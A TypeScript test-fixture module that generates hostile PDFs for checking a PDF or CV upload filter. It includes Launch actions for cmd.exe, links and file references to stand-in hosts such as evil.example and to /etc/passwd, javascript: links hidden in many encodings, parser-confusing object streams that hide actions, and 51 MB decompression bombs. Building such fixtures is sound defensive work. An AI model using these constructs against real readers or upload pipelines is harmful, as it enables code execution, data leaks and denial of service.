import { deflateSync } from 'node:zlib'
import { buildPdf, type PdfParts, packed, stream } from '../cv-files.ts'
import { bytes, type HostileFile, MB, pdf } from './hostile-file.ts'
import { hex } from './pdf-packing.ts'

const latin1 = (content: Buffer) => content.toString('latin1')
const launch = '<< /S /Launch /F (cmd.exe) >>'
const annotation = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`
const link = (address: string): PdfParts => ({ page: annotation(`<< /S /URI /URI ${address} >>`) })

/** PDFs that read other files or ask for input. */
function filesAndForms(): Record<string, PdfParts> {
  const thread = (target: string) => annotation(`<< /S /Thread /F ${target} /D 0 >>`)
  const field = '<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] >>'
  return {
    'a thread in another file': { page: thread('(other.pdf)') },
    'a thread in another file, by its specification': {
      page: thread('<< /Type /Filespec /F (other.pdf) >>'),
    },
    'a thread in another file, named by an object': {
      page: thread('6 0 R'),
      objects: ['(\\\\\\\\evil.example\\\\x.pdf)'],
    },
    'a thread in another file, named by the object of an object': {
      page: thread('6 0 R'),
      objects: ['7 0 R', '(other.pdf)'],
    },
    'a thread in another file, in Unicode names': { page: thread('<< /UF <FEFF0061> >>') },
    'a stream that is another file': { objects: [stream('/F (\\\\\\\\evil.example\\\\x)', '')] },
    'a stream from an address': { objects: [stream('/F << /FS /URL /F (http://evil.example/x) >>', '')] },
    'a stream that is another file, by an object': { objects: [stream('/F 7 0 R', ''), '(/etc/passwd)'] },
    'a stream whose file is packed': { objects: [stream('/FFilter /FlateDecode', 'x')] },
    'a page of another PDF as a drawing': {
      objects: [stream('/Subtype /Form /Ref << /F (other.pdf) /Page 0 >>', '')],
    },
    'a form field': { catalogue: '/AcroForm << /Fields [6 0 R] >>', objects: [field] },
    'a form field in a list elsewhere': {
      catalogue: '/AcroForm 6 0 R',
      objects: ['<< /Fields 7 0 R >>', '[8 0 R]', '<< /FT /Tx /T (a) >>'],
    },
    'a form field in a list whose reference is written together': {
      catalogue: '/AcroForm << /Fields 6 0R >>',
      objects: ['[7 0 R]', '<< /FT /Tx /T (a) >>'],
    },
    'a thread in another file, by a reference with a sign': {
      page: thread('6- 0 R'),
      objects: ['(other.pdf)'],
    },
    'a form field on the page only': { page: '/Annots [6 0 R]', objects: [field] },
    'a base for its links': { catalogue: '/URI << /Base (http://evil.example/) >>' },
    'a base for its links, in other objects': {
      catalogue: '/URI 6 0 R',
      objects: ['<< /Base 7 0 R >>', '(file:///)'],
    },
    'an opening that goes on to an address': {
      catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>',
    },
    'two openings, the second at a page': {
      catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >> /OpenAction [3 0 R /Fit]',
    },
    'an opening that prints': { catalogue: '/OpenAction << /S /Named /N /Print >>' },
  }
}

const utf16le = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')
const utf16be = (text: string) => utf16le(text).swap16()
const inOctal = (content: Buffer) =>
  [...content].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('')
const inHex = (content: Buffer) => `<${content.toString('hex')}>`

/** Links to programs and files, in every notation of a PDF string. */
function disguisedLinks(): Record<string, PdfParts> {
  const script = 'javascript:alert(1)'
  const spelled = {
    'UTF-16': `(${inOctal(utf16be(script))})`,
    'UTF-16 in hex': inHex(utf16be(script)),
    'UTF-16 of the other order': `(${inOctal(utf16le(script))})`,
    'UTF-16 of the other order in hex': inHex(utf16le(script)),
    'raw UTF-16': `(${latin1(utf16be('javascript:x'))})`,
    'UTF-8 with its mark': inHex(Buffer.from(`\ufeff${script}`)),
    'octal numbers beyond a byte': '(\\552avascript:x)',
    'a line feed by its escape': '(java\\nscript:x)',
    'a tabulator by its escape': '(java\\tscript:x)',
    'hex with other characters between': '<6A zz 61 76 61 73 63 72 69 70 74 3A 78>',
    'hex of an odd length': `<${Buffer.from('javascript:x').toString('hex')}7>`,
    'thousands of blanks': `(${' '.repeat(5000)}javascript:x)`,
    'thousands of broken lines': `(${'\\\n'.repeat(3000)}javascript:x)`,
    'percent signs': '(java%73cript:x)',
    'percent signs of percent signs': '(java%2573cript:x)',
  }
  const addresses = [
    'file:///C:/Windows/System32/calc.exe',
    'FILE:/etc/passwd',
    '//evil.example/share',
    '\\\\/evil.example/share',
    'C:\\\\Windows\\\\calc.exe',
    'vscode://file/x',
    'smb://evil.example/x',
    'intent://x#Intent;end',
    'about:blank',
    'blob:https://evil.example/x',
    'feed:javascript:x',
    'url:file:///etc/passwd',
  ]
  return {
    ...Object.fromEntries(Object.entries(spelled).map(([how, text]) => [`a script in ${how}`, link(text)])),
    ...Object.fromEntries(addresses.map((address) => [`a link to ${address}`, link(`(${address})`)])),
    'a script in UTF-16, in another object': { ...link('6 0 R'), objects: [inHex(utf16be(script))] },
    'a script in another object, referred to together': { ...link('6 0R'), objects: [`(${script})`] },
    'a script in the object of an object': { ...link('6 0 R'), objects: ['7 0 R', `(${script})`] },
    'an action named in UTF-16': { objects: ['<< /S /#FE#FF#00L#00a#00u#00n#00c#00h >>'] },
    'an action named with NUL between': { objects: ['<< /S /L#00aunch >>'] },
    'an action named as a text': { objects: ['<< /S (JavaScript) >>'] },
    'an action named as a text in UTF-16': { objects: [`<< /S ${inHex(utf16be('JavaScript'))} >>`] },
  }
}

/** Objects that lenient programs read and strict ones do not. */
function readDifferently(): Record<string, PdfParts> {
  const pack = (dictionary: string, content: string) => packed(`/Type /ObjStm ${dictionary}`, content)
  const body = `9 0 ${launch}`
  const cutShort = deflateSync(bytes(body), { level: 0 })
  const badSum = deflateSync(bytes(body))
  badSum.fill(0, badSum.length - 4)
  const decoy = '9 0 (endstream) '
  return {
    'an end of the object in a dictionary': { objects: ['<< /A endobj /S /Launch /F (x) >>'] },
    'a stream in a dictionary': { objects: ['<< /A stream\n/S /Launch /F (x) >>'] },
    'a pack that says it begins at zero': { objects: [pack('/N 1 /First 0', `9 4 ${launch}`)] },
    'a pack whose beginning stands elsewhere': {
      objects: [pack('/N 1 /First 7 0 R', `9 0      ${' '.repeat(60)}${launch}`), '4'],
    },
    'a pack with two beginnings': {
      objects: [pack('/N 1 /First 200 /First 4', `${body}${' '.repeat(300)}`)],
    },
    'a pack of more than it lists': { objects: [pack('/N 2 /First 8', `9 0 ${launch}`)] },
    'a pack cut inside an action': {
      objects: [pack('/N 2 /First 9', `9 0 10 7 ${launch}`)],
    },
    'a pack with a wrong checksum that begins at zero': {
      objects: [stream('/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode', latin1(badSum))],
    },
    'a pack that speaks of its end': {
      objects: [stream('/Type /ObjStm /N 1 /First 4', `9 0 << /A (endstream) /B ${launch} >>`)],
    },
    'a pack of two that speaks of its end': {
      objects: [stream('/Type /ObjStm /N 2 /First 9', `9 0 10 12 (endstream) ${launch}`)],
    },
    'a packed pack that holds its end': {
      objects: [
        stream(
          '/Type /ObjStm /N 2 /First 10 /Filter /FlateDecode',
          latin1(deflateSync(bytes(`9 0 10 12 ${decoy.slice(4)}${launch}`), { level: 0 })),
        ),
      ],
    },
    'a packed pack without its last block': {
      objects: [
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          latin1(cutShort.subarray(0, cutShort.length - 4)),
        ),
      ],
    },
    'a pack by the short name of its filter': {
      objects: [stream('/Type /ObjStm /N 1 /First 0 /F /FlateDecode', latin1(deflateSync(bytes(body))))],
    },
    'a pack behind an unknown filter': {
      objects: [
        stream('/Type /ObjStm /N 1 /First 0 /Filter [/None /FlateDecode]', latin1(deflateSync(bytes(body)))),
      ],
    },
  }
}

/** Object headers that lenient readers accept. */
function looseHeaders(): [string, Buffer][] {
  const file = latin1(buildPdf({ objects: [launch] }))
  return ['6 0obj', '6. 0 obj', '+6 0 obj', '6 -0 obj', '6 0.0 obj', '6 0%x\nobj', '6- 0 obj'].map(
    (header) => [
      `an object that begins as ${JSON.stringify(header)}`,
      bytes(file.replace('6 0 obj', header)),
    ],
  )
}

/** Large contents after data that is not decoded when counting. */
function hiddenGrowth(): Record<string, PdfParts> {
  const blank = ' '.repeat(51 * MB)
  const flate = deflateSync(bytes(blank))
  const badSum = Buffer.from(flate)
  badSum.fill(0, badSum.length - 4)
  return {
    'behind an unknown filter': { contentBody: stream('/Filter [/Crypt /FlateDecode]', latin1(flate)) },
    'with a wrong checksum': { contentBody: stream('/Filter /FlateDecode', latin1(badSum)) },
    'with more behind it': { contentBody: stream('/Filter /FlateDecode', `${latin1(flate)}more`) },
    'behind blanks': {
      contentBody: stream('/Filter /FlateDecode', latin1(flate)).replace('stream\n', 'stream  \n'),
    },
    'by the short name of its filter': { contentBody: stream('/F /FlateDecode', latin1(flate)) },
    'in hex with its mark': {
      contentBody: stream('/Filter [/ASCIIHexDecode /FlateDecode]', latin1(hex(flate))),
    },
  }
}

export function hostilePdfs(): HostileFile[] {
  const parts = { ...filesAndForms(), ...disguisedLinks(), ...readDifferently() }
  return [
    ...Object.entries(parts).map(([what, pdfParts]) => pdf(what, buildPdf(pdfParts))),
    ...looseHeaders().map(([what, content]) => pdf(what, content)),
    ...Object.entries(hiddenGrowth()).map(([how, pdfParts]) =>
      pdf(`a content that grows ${how}`, buildPdf(pdfParts)),
    ),
  ]
}
